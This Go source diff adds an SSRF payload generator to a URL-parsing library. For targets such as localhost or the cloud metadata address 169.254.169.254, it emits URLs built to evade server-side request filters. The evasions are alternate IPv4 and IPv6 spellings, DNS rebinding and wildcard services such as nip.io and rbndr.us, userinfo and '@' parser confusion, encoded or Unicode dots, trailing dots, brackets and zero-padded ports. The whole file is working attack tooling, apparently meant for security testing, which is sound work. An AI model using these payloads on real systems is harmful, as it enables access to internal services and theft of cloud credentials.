@@ -0,0 +1,214 @@
+package rawurlparser
+
+import (
+	"fmt"
+	"net/netip"
+	"strconv"
+	"strings"
+)
+
+// SSRF payload techniques
+const (
+	SSRFIPv4Notation = "ipv4-notation" // Integer, hex, octal and mixed IPv4 spellings
+	SSRFIPv6         = "ipv6"          // IPv4-mapped IPv6 or IPv6 spellings
+	SSRFRebinding    = "dns-rebinding" // Wildcard and rebinding DNS services
+	SSRFUserinfo     = "userinfo"      // Allowed host hidden in userinfo or after '@'
+	SSRFEncodedDots  = "encoded-dots"  // Dots percent-encoded or replaced by Unicode full stops
+	SSRFTrailingDot  = "trailing-dot"  // Fully qualified name with trailing dot
+	SSRFPortPadding  = "port-padding"  // Port with leading zeros
+	SSRFBracketed    = "bracketed"     // IPv4 or names inside IP-literal brackets
+)
+
+// SSRFPayload is a URL pointing at the target through a filter bypass
+type SSRFPayload struct {
+	URL       *RawURL
+	Technique string // One of the SSRF* constants
+	Notation  string // Detail of the technique, e.g. "octal" or "nip.io"
+}
+
+// SSRFOptions configures GenerateSSRFPayloads
+type SSRFOptions struct {
+	Scheme      string // Scheme of the generated URLs, "http" when empty
+	Path        string // Path, query and fragment appended to every URL, "/" when empty
+	AllowedHost string // Host the filter allows, used for userinfo tricks, "example.com" when empty
+	AllowedIP   string // IPv4 address the filter allows, used for rebinding names, "1.1.1.1" when empty
+}
+
+// DefaultSSRFOptions returns the default SSRF payload options
+func DefaultSSRFOptions() *SSRFOptions {
+	return &SSRFOptions{
+		Scheme:      "http",
+		Path:        "/",
+		AllowedHost: "example.com",
+		AllowedIP:   "1.1.1.1",
+	}
+}
+
+// GenerateSSRFPayloads returns URLs reaching target ("127.0.0.1:8080",
+// "169.254.169.254", "[::1]:80", "localhost") through the host spellings
+// SSRF filters commonly miss. Every URL is built as a string and parsed with
+// RawURLParseStrict, so Original is exactly what goes into a request. The
+// target spelled plainly is not included. The "backslash-at", "fragment-at"
+// and "query-at" payloads target fetchers with WHATWG parsing; their URL's
+// Hostname is the allowed host.
+func GenerateSSRFPayloads(target string, opts *SSRFOptions) ([]SSRFPayload, error) {
+	o := DefaultSSRFOptions()
+	if opts != nil {
+		if opts.Scheme != "" {
+			o.Scheme = opts.Scheme
+		}
+		if opts.Path != "" {
+			o.Path = opts.Path
+		}
+		if opts.AllowedHost != "" {
+			o.AllowedHost = opts.AllowedHost
+		}
+		if opts.AllowedIP != "" {
+			o.AllowedIP = opts.AllowedIP
+		}
+	}
+	allowedIP, err := netip.ParseAddr(o.AllowedIP)
+	if err != nil || !allowedIP.Is4() {
+		return nil, fmt.Errorf("%w: allowed IP %q", ErrInvalidIPv4, o.AllowedIP)
+	}
+
+	host, port := splitSSRFTarget(target)
+	class := ClassifyHost(host)
+	if host == "" || class.Kind == HostIPvFuture {
+		return nil, fmt.Errorf("%w: SSRF target %q", ErrInvalidURL, target)
+	}
+
+	g := &ssrfGenerator{opts: o, port: port, seen: map[string]struct{}{}}
+	g.seen[g.build("", host, port)] = struct{}{}
+
+	addr := class.Addr.Unmap()
+	switch {
+	case addr.Is4():
+		for _, v := range IPv4Variants(addr) {
+			technique := SSRFIPv4Notation
+			switch {
+			case strings.HasPrefix(v.Host, "["):
+				technique = SSRFIPv6
+			case v.Notation == "trailing-dot":
+				technique = SSRFTrailingDot
+			}
+			g.add(technique, v.Notation, "", v.Host, port)
+		}
+		for _, v := range IPv6Variants(netip.AddrFrom16(addr.As16())) {
+			g.add(SSRFIPv6, "ipv4-mapped-"+v.Notation, "", v.Host, port)
+		}
+		g.add(SSRFBracketed, "ipv4", "", "["+addr.String()+"]", port)
+		g.rebinding(addr, allowedIP)
+	case class.Kind == HostIPv6:
+		for _, v := range IPv6Variants(class.Addr) {
+			g.add(SSRFIPv6, v.Notation, "", v.Host, port)
+		}
+		g.add(SSRFRebinding, "sslip.io", "", strings.ReplaceAll(class.Addr.String(), ":", "-")+".sslip.io", port)
+	default:
+		g.add(SSRFTrailingDot, "fqdn", "", strings.TrimSuffix(host, ".")+".", port)
+		g.add(SSRFBracketed, "name", "", "["+host+"]", port)
+	}
+
+	// Dotted hosts: hide the dots from string filters
+	plain := host
+	if addr.Is4() {
+		plain = addr.String()
+	}
+	if strings.Contains(plain, ".") && !strings.HasPrefix(plain, "[") {
+		for _, dot := range []struct{ s, notation string }{
+			{"%2e", "percent"},
+			{"%2E", "percent-uppercase"},
+			{"。", "ideographic-full-stop"},
+			{"．", "fullwidth-full-stop"},
+			{"｡", "halfwidth-ideographic-full-stop"},
+			{"%E3%80%82", "percent-ideographic-full-stop"},
+		} {
+			g.add(SSRFEncodedDots, dot.notation, "", strings.ReplaceAll(plain, ".", dot.s), port)
+		}
+	}
+
+	// Userinfo: filters reading the wrong '@' see the allowed host. RawURLParse
+	// reads the allowed host in the last three as well; they reach the target
+	// only through WHATWG parsers, which end the authority at '\', '#' or '?'.
+	hostPort := g.authorityHost(plain, port)
+	allowed := o.AllowedHost
+	g.add(SSRFUserinfo, "allowed-userinfo", allowed+"@", plain, port)
+	g.add(SSRFUserinfo, "allowed-userinfo-port", allowed+":80@", plain, port)
+	g.add(SSRFUserinfo, "backslash-at", "", hostPort+`\@`+allowed, "")
+	g.add(SSRFUserinfo, "fragment-at", "", hostPort+"#@"+allowed, "")
+	g.add(SSRFUserinfo, "query-at", "", hostPort+"?@"+allowed, "")
+
+	// Port padding with leading zeros, using the scheme default when no port is given
+	effective := port
+	if effective == "" {
+		info, _ := LookupScheme(o.Scheme)
+		effective = info.DefaultPort
+	}
+	if effective != "" {
+		for _, pad := range []string{"0", "00", "0000"} {
+			g.add(SSRFPortPadding, "leading-zeros-"+strconv.Itoa(len(pad)), "", plain, pad+effective)
+		}
+	}
+
+	return g.payloads, nil
+}
+
+// ssrfGenerator collects unique payloads
+type ssrfGenerator struct {
+	opts     *SSRFOptions
+	port     string
+	seen     map[string]struct{}
+	payloads []SSRFPayload
+}
+
+// add builds scheme://userinfo host:port path and records it once
+func (g *ssrfGenerator) add(technique, notation, userinfo, host, port string) {
+	s := g.build(userinfo, host, port)
+	if _, ok := g.seen[s]; ok {
+		return
+	}
+	u, err := RawURLParseStrict(s)
+	if err != nil {
+		return
+	}
+	g.seen[s] = struct{}{}
+	g.payloads = append(g.payloads, SSRFPayload{URL: u, Technique: technique, Notation: notation})
+}
+
+// build assembles the URL string
+func (g *ssrfGenerator) build(userinfo, host, port string) string {
+	return g.opts.Scheme + "://" + userinfo + g.authorityHost(host, port) + g.opts.Path
+}
+
+// authorityHost appends the port to host when there is one
+func (g *ssrfGenerator) authorityHost(host, port string) string {
+	if port == "" {
+		return host
+	}
+	return host + ":" + port
+}
+
+// rebinding adds names served by public wildcard and rebinding DNS services
+func (g *ssrfGenerator) rebinding(target, allowed netip.Addr) {
+	hexAddr := func(a netip.Addr) string {
+		b := a.As4()
+		return fmt.Sprintf("%02x%02x%02x%02x", b[0], b[1], b[2], b[3])
+	}
+	ip := target.String()
+	g.add(SSRFRebinding, "nip.io", "", ip+".nip.io", g.port)
+	g.add(SSRFRebinding, "nip.io-hex", "", hexAddr(target)+".nip.io", g.port)
+	g.add(SSRFRebinding, "sslip.io", "", strings.ReplaceAll(ip, ".", "-")+".sslip.io", g.port)
+	g.add(SSRFRebinding, "rbndr.us", "", hexAddr(allowed)+"."+hexAddr(target)+".rbndr.us", g.port)
+	g.add(SSRFRebinding, "1u.ms", "", "make-"+allowed.String()+"-rebind-"+ip+"-rr.1u.ms", g.port)
+}
+
+// splitSSRFTarget splits "host:port" and "[v6]:port" targets
+func splitSSRFTarget(target string) (host, port string) {
+	if strings.HasPrefix(target, "[") {
+		if i := strings.IndexByte(target, ']'); i != -1 {
+			return target[:i+1], strings.TrimPrefix(target[i+1:], ":")
+		}
+		return target, ""
+	}
+	return SplitHostPort(target)
+}